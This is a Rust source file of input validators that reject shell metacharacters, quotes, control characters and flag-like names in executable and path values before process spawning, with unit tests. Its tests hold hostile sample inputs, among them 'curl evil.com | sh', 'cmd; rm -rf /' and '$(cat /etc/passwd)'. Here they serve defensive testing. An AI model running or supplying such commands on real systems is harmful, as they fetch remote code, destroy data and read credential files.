//! Value classifiers for executables and filesystem paths
//!
//! Both classifiers run before a configured value is substituted into a
//! process-spawn argument list. They answer yes/no; the `check_*` twins
//! return the reason for a refusal.

use std::sync::LazyLock;

use regex::Regex;
use tracing::debug;

use crate::error::Rejection;
use crate::lexical::{
    MAX_PATH_LENGTH, non_empty, reject_control_chars, reject_null_byte, reject_over_length,
    reject_quotes, reject_shell_metachars, screen_argument,
};

static BARE_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[A-Za-z0-9._+-]+$").expect("valid bare-name pattern"));

static DRIVE_PREFIX: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[A-Za-z]:[\\/]").expect("valid drive-prefix pattern"));

/// Whether a trimmed value should be treated as a path rather than a bare name
fn is_likely_path(value: &str) -> bool {
    if value.starts_with('.') || value.starts_with('~') {
        return true;
    }
    if value.contains('/') || value.contains('\\') {
        return true;
    }
    DRIVE_PREFIX.is_match(value)
}

/// Check a value naming an executable, either as a path or a bare name.
///
/// Paths may contain spaces and arbitrary unicode once they pass the
/// lexical screen. Bare names are looked up on `PATH`, so they must be a
/// single unambiguous token that cannot be mistaken for a flag.
pub fn check_executable_value(value: Option<&str>) -> Result<&str, Rejection> {
    let trimmed = screen_argument(value).inspect_err(|r| {
        debug!("Rejected executable value: {}", r);
    })?;

    if is_likely_path(trimmed) {
        return Ok(trimmed);
    }
    if trimmed.starts_with('-') {
        debug!("Rejected executable value: leading dash on bare name");
        return Err(Rejection::FlagInjection);
    }
    if !BARE_NAME.is_match(trimmed) {
        debug!("Rejected executable value: malformed bare name");
        return Err(Rejection::MalformedBareName);
    }
    Ok(trimmed)
}

/// Returns `true` if the value is safe to use as an executable.
pub fn is_safe_executable_value(value: Option<&str>) -> bool {
    check_executable_value(value).is_ok()
}

/// Check a filesystem path value against the default length limit.
pub fn check_path_value(value: Option<&str>) -> Result<&str, Rejection> {
    check_path_value_with_limit(value, MAX_PATH_LENGTH)
}

/// Check a filesystem path value.
///
/// More permissive than [`check_executable_value`]: a leading dash is a
/// valid literal path component and no path shape is required.
pub fn check_path_value_with_limit(value: Option<&str>, max_len: usize) -> Result<&str, Rejection> {
    let result = non_empty(value).and_then(|trimmed| {
        reject_over_length(trimmed, max_len)?;
        reject_null_byte(trimmed)?;
        reject_control_chars(trimmed)?;
        reject_shell_metachars(trimmed)?;
        reject_quotes(trimmed)?;
        Ok(trimmed)
    });
    if let Err(r) = &result {
        debug!("Rejected path value: {}", r);
    }
    result
}

/// Returns `true` if the value is safe to use as a filesystem path.
pub fn is_safe_path_value(value: Option<&str>) -> bool {
    check_path_value(value).is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    const INJECTION_CHARS: &[char] = &[';', '&', '|', '`', '$', '<', '>', '"', '\''];

    #[test]
    fn test_executable_accepts_bare_names() {
        for name in ["node", "python3", "git", "whisper", "g++", "my-tool", "my_tool", "tool.exe"] {
            assert!(is_safe_executable_value(Some(name)), "{name}");
        }
    }

    #[test]
    fn test_executable_accepts_paths() {
        for path in [
            "/usr/bin/node",
            "/usr/local/bin/python3",
            "./my-tool",
            "~/bin/custom-tool",
            "/Applications/Imsg Tools/imsg",
            "C:\\Program Files\\node\\node.exe",
            "D:/tools/run.exe",
        ] {
            assert!(is_safe_executable_value(Some(path)), "{path}");
        }
    }

    #[test]
    fn test_executable_rejects_empty() {
        assert!(!is_safe_executable_value(None));
        assert!(!is_safe_executable_value(Some("")));
        assert!(!is_safe_executable_value(Some("   ")));
        assert_eq!(check_executable_value(Some("\t")), Err(Rejection::Empty));
    }

    #[test]
    fn test_executable_rejects_chaining_and_substitution() {
        for payload in [
            "curl evil.com | sh",
            "cmd; rm -rf /",
            "cmd && echo pwned",
            "cmd || true",
            "`whoami`",
            "$(cat /etc/passwd)",
            "cmd > /dev/null",
            "cmd < /etc/shadow",
            "imsg; rm -rf /",
        ] {
            assert!(!is_safe_executable_value(Some(payload)), "{payload}");
        }
    }

    #[test]
    fn test_executable_rejects_quotes() {
        assert_eq!(
            check_executable_value(Some("cmd 'arg'")),
            Err(Rejection::Quote('\''))
        );
        assert!(!is_safe_executable_value(Some("cmd \"arg\"")));
        assert!(!is_safe_executable_value(Some("node -e 'process.exit(1)'")));
        assert!(!is_safe_executable_value(Some("/bin/bash -c 'echo pwned'")));
    }

    #[test]
    fn test_executable_rejects_control_and_null() {
        assert_eq!(
            check_executable_value(Some("cmd\nrm -rf /")),
            Err(Rejection::ControlCharacter)
        );
        assert!(!is_safe_executable_value(Some("cmd\recho pwned")));
        assert_eq!(
            check_executable_value(Some("cmd\0evil")),
            Err(Rejection::NullByte)
        );
    }

    #[test]
    fn test_executable_rejects_flag_injection() {
        assert_eq!(check_executable_value(Some("-rf")), Err(Rejection::FlagInjection));
        assert_eq!(check_executable_value(Some("--exec")), Err(Rejection::FlagInjection));
    }

    #[test]
    fn test_executable_rejects_spaces_in_bare_name() {
        assert_eq!(
            check_executable_value(Some("my tool")),
            Err(Rejection::MalformedBareName)
        );
        assert_eq!(
            check_executable_value(Some("tool@1")),
            Err(Rejection::MalformedBareName)
        );
    }

    #[test]
    fn test_executable_returns_trimmed_value() {
        assert_eq!(check_executable_value(Some("  node ")), Ok("node"));
    }

    #[test]
    fn test_injection_chars_rejected_anywhere() {
        for c in INJECTION_CHARS {
            for value in [format!("{c}node"), format!("/usr/bin/{c}x"), format!("a {c} b")] {
                assert!(!is_safe_executable_value(Some(&value)), "{value:?}");
                assert!(!is_safe_path_value(Some(&value)), "{value:?}");
            }
        }
    }

    #[test]
    fn test_path_accepts_common_forms() {
        for path in [
            "/home/user/workspace",
            "/var/lib/openclaw/agents",
            "/tmp",
            "~/projects/myapp",
            "~/.openclaw/agents",
            "./workspace",
            "../parent/dir",
            "subdir/nested",
            "/Users/John Doe/Documents",
            "/opt/My Application/data",
            "-archive",
            "/opt/-backup/data",
            "C:\\Users\\admin\\workspace",
            "D:\\Projects",
        ] {
            assert!(is_safe_path_value(Some(path)), "{path}");
        }
    }

    #[test]
    fn test_path_rejects_empty() {
        assert!(!is_safe_path_value(None));
        assert!(!is_safe_path_value(Some("")));
        assert!(!is_safe_path_value(Some("   ")));
        assert!(!is_safe_path_value(Some("\u{FEFF}")));
        assert!(!is_safe_executable_value(Some("\u{FEFF}")));
    }

    #[test]
    fn test_path_rejects_injection() {
        for payload in [
            "/home/user; rm -rf /",
            "/tmp && echo pwned",
            "/var/$(whoami)",
            "/home/`id`",
            "/tmp | cat",
            "/dev > /dev/null",
            "/etc < input",
            "/home/'user'",
            "/home/\"user\"",
            "/home/user\0/evil",
            "/home/user\n/etc/passwd",
            "/home/user\r/evil",
        ] {
            assert!(!is_safe_path_value(Some(payload)), "{payload:?}");
        }
    }

    #[test]
    fn test_path_length_boundary() {
        let max_path = format!("/{}", "a".repeat(MAX_PATH_LENGTH - 1));
        assert_eq!(max_path.len(), 4096);
        assert!(is_safe_path_value(Some(&max_path)));

        let over = format!("/{}", "a".repeat(MAX_PATH_LENGTH));
        assert_eq!(
            check_path_value(Some(&over)),
            Err(Rejection::TooLong { len: 4097, max: 4096 })
        );

        let long_path = "/a".repeat(4097);
        assert!(!is_safe_path_value(Some(&long_path)));
    }

    #[test]
    fn test_path_custom_limit() {
        assert!(check_path_value_with_limit(Some("/tmp"), 4).is_ok());
        assert!(check_path_value_with_limit(Some("/tmp/x"), 4).is_err());
    }
}
